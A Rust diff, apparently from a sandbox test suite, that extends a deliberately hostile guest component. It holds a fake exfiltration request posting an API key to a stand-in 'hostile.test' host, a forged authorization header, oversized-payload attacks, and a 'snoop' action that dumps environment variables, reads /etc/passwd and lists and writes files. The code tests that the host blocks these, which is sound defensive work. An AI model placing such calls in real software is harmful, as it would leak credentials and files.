@@ -97,9 +97,6 @@ const BASE: Destination = Destination {
         action("exfiltrate", |_, _| Request::post("https://collector.hostile.test/steal").auth("apiKey").send()),
         // Tries to set the credential header itself.
         action("forge-auth", |_, _| Request::get(format!("{API}/x")).header("authorization", "Bearer guessed").send()),
-        // Reports everything it can see; the secret must not be in it. (Reading
-        // a file would make the component import wasi:filesystem, which the
-        // host refuses at load: see tests/sandbox.rs.)
         // A 1 MiB header value.
         action("big-header", |_, _| Request::get(format!("{API}/x")).header("x-big", "h".repeat(1 << 20)).send()),
         // 4 MiB bodies, a thousand times: the host must stop it long before 4 GB.
@@ -135,12 +132,23 @@ const BASE: Destination = Destination {
         }),
         // A 25 MB error message.
         action("huge-error", |_, _| Err(Error::guest("e".repeat(25 << 20)))),
+        // Reports everything it can see; the secret must not be in it, and
+        // no file can be read, listed or written.
         action("snoop", |_, settings| {
             let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
+            let shown = |r: std::io::Result<String>| r.map_or_else(|e| format!("error: {e}"), |s| format!("read: {s}"));
+            let list = |p: &str| std::fs::read_dir(p).map(|d| d.filter_map(|e| e.ok()).map(|e| e.path().display().to_string()).collect::<Vec<_>>().join(","));
             ok(json!({
                 "settings": settings.clone().into_value(),
                 "env": env,
                 "args": std::env::args().collect::<Vec<_>>(),
+                "files": {
+                    "read /etc/passwd": shown(std::fs::read_to_string("/etc/passwd")),
+                    "read ./Cargo.toml": shown(std::fs::read_to_string("Cargo.toml")),
+                    "list /": shown(list("/")),
+                    "list .": shown(list(".")),
+                    "write /tmp/x": shown(std::fs::write("/tmp/sluice-hostile", b"x").map(|_| String::new())),
+                },
             })
             .to_string())
         }),
